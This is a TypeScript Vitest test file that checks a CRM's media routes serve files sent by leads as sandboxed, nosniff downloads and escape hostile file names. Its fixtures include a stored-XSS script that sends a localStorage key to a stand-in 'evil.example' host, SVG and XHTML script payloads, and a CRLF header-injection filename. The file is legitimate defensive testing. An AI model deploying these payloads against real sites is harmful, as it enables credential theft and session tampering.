import { describe, expect, it } from 'vitest';
import { TOKENS } from '../../bootstrap/tokens.ts';
import { registerThroughBot } from '../builders/desk-leads.ts';
import { phoneDesk, type PhoneDesk } from '../support/fake-phone-http.ts';

/**
 * Stored XSS through the fake: a lead "sends" an active document, and whoever opens its link runs it on the app's
 * origin (where the simulator keeps the admin key). Every route serving stored bytes must make a browser download
 * such a file, never render it, and fence it even if it does.
 */

const PHONE = '+573001112255';
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 1, 2]);

const ACTIVE = [
  ['text/html', 'oferta.html', '<script>fetch("//evil.example/?k="+localStorage.getItem("key"))</script>'],
  [
    'image/svg+xml',
    'plano.svg',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>',
  ],
  ['application/xhtml+xml', 'x.xhtml', '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'],
  ['text/xml', 'x.xml', '<?xml version="1.0"?><x/>'],
  ['text/javascript', 'x.js', 'alert(1)'],
] as const;

type ConversationJson = { messages: { direction: string; content: { mediaId?: string; unavailable?: string } }[] };

/** Plays the lead sending the file; answers the fake phone's link to it and the CRM's download of the stored copy. */
const sendFile = async (phone: PhoneDesk, media: object) => {
  const { lead } = await registerThroughBot(phone.desk, PHONE, 'Ana Gómez');
  const sent = await phone.send({ from: PHONE, media });
  expect(sent.status).toBe(202);
  const shown = (await phone.messages(PHONE)).findLast((m) => m.from === 'lead');
  const fromPhone = await phone.request(shown?.media?.url ?? '/none');
  const conversation = (await (await phone.crm('GET', `/leads/${lead.id}/conversation`)).json()) as ConversationJson;
  const inbound = conversation.messages.findLast((m) => m.direction === 'inbound');
  const fromCrm = await phone.crm('GET', `/media/${inbound?.content.mediaId ?? 'none'}`);
  return { fromPhone, fromCrm, inbound };
};

const expectFenced = (response: Response) => {
  expect(response.status).toBe(200);
  expect(response.headers.get('x-content-type-options')).toBe('nosniff');
  const csp = response.headers.get('content-security-policy') ?? '';
  expect(csp).toMatch(/(^|;\s*)default-src 'none'(;|$)/);
  expect(csp).toMatch(/(^|;\s*)sandbox(;|$)/);
};

describe('files served to a browser', () => {
  it.each(ACTIVE)(
    'a %s document a lead sends is a fenced download on the phone, and never copied into the desk',
    async (mimeType, filename, text) => {
      const phone = await phoneDesk();
      const { fromPhone, fromCrm, inbound } = await sendFile(phone, {
        kind: 'document',
        mimeType,
        filename,
        dataBase64: base64(text),
      });

      // The phone still holds what it sent, served as a download, fenced.
      expect(fromPhone.headers.get('content-disposition')).toMatch(
        new RegExp(`^attachment; filename="${filename.replace('.', '\\.')}"`),
      );
      expectFenced(fromPhone);
      expect(await fromPhone.text()).toBe(text);
      // WhatsApp carries no such type: the desk refuses the copy before storing it, and the message says why.
      expect(inbound?.content.unavailable).toMatch(/^unsupported_media_type: /);
      expect(fromCrm.status).toBe(404);
    },
  );

  it.each(ACTIVE)(
    'a stored %s file (kept before the type checks, or by any other path) is a fenced download',
    async (mimeType, filename, text) => {
      const phone = await phoneDesk();
      const id = await phone.desk.container
        .get(TOKENS.MediaStore)
        .put({ bytes: Buffer.from(text), mimeType, filename, owner: null });

      const response = await phone.crm('GET', `/media/${id}`);

      expect(response.headers.get('content-disposition')).toMatch(
        new RegExp(`^attachment; filename="${filename.replace('.', '\\.')}"`),
      );
      expectFenced(response);
      expect(await response.text()).toBe(text);
    },
  );

  it('a stored "image" labelled as SVG is a download too: the type decides, whatever its case or parameters', async () => {
    const phone = await phoneDesk();
    const id = await phone.desk.container
      .get(TOKENS.MediaStore)
      .put({ bytes: Buffer.from(ACTIVE[1][2]), mimeType: 'Image/SVG+XML; charset=utf-8', filename: null, owner: null });

    const response = await phone.crm('GET', `/media/${id}`);

    expectFenced(response);
    expect(response.headers.get('content-type')).toBe('image/svg+xml');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; /);
  });

  it('a photo stays inline (the phone and the CRM show it), still fenced', async () => {
    const phone = await phoneDesk();
    const { fromPhone, fromCrm } = await sendFile(phone, {
      kind: 'image',
      mimeType: 'image/png',
      dataBase64: PNG.toString('base64'),
    });

    for (const response of [fromPhone, fromCrm]) {
      expectFenced(response);
      expect(response.headers.get('content-type')).toBe('image/png');
      expect(response.headers.get('content-disposition')).toMatch(/^inline; filename="/);
      expect(Buffer.from(await response.arrayBuffer())).toEqual(PNG);
    }
  });

  it('a hostile file name cannot split the header: quotes, CR/LF and non-ASCII are escaped', async () => {
    const phone = await phoneDesk();
    const filename = 'a"b\\c\r\nSet-Cookie: x=1; ñ.pdf';
    const { fromPhone, fromCrm } = await sendFile(phone, {
      kind: 'document',
      mimeType: 'application/pdf',
      filename,
      dataBase64: base64('%PDF-1.4'),
    });

    for (const response of [fromPhone, fromCrm]) {
      expectFenced(response);
      expect(response.headers.get('set-cookie')).toBeNull();
      expect(response.headers.get('content-disposition')).toBe(
        `inline; filename="a_b_c__Set-Cookie: x=1; _.pdf"; filename*=UTF-8''${encodeURIComponent(filename).replace(/['()*]/g, (ch) => `%${ch.charCodeAt(0).toString(16).toUpperCase()}`)}`,
      );
    }
  });

  it('a file name with an unpaired surrogate (valid JSON) is served with U+FFFD in its place, not a 500', async () => {
    const phone = await phoneDesk();
    await phone.send({
      from: PHONE,
      media: {
        kind: 'document',
        mimeType: 'application/pdf',
        filename: 'plano\ud800.pdf',
        dataBase64: base64('%PDF-1.4'),
      },
    });
    const shown = (await phone.messages(PHONE)).findLast((m) => m.from === 'lead');

    const response = await phone.request(shown?.media?.url ?? '/none');

    expect(response.status).toBe(200);
    expect(response.headers.get('content-disposition')).toBe(
      `inline; filename="plano_.pdf"; filename*=UTF-8''plano%EF%BF%BD.pdf`,
    );
  });
});
